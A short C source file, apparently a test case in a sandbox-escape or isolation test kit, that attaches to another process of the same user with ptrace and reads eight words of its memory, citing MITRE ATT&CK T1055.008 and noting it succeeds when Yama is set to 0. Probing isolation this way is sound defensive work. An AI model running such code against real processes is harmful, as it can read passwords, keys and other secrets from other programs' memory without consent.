// tries: to attach to a process of the same user outside and read its memory
// works: same user, and Yama at 0
// see: ptrace(2); MITRE ATT&CK T1055.008
// goal: read
#include "../kit.h"

int main(void)
{
	pid_t pid = number("VICTIM");
	long word[8];

	MUST(ptrace(PTRACE_ATTACH, pid, 0, 0));
	MUST(waitpid(pid, NULL, 0));
	for (int i = 0; i < 8; i++)
		word[i] = ptrace(PTRACE_PEEKDATA, pid, number("VICTIM_ADDRESS") + 8 * i, 0);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	fwrite(word, 1, sizeof(word), stdout);
	return 0;
}
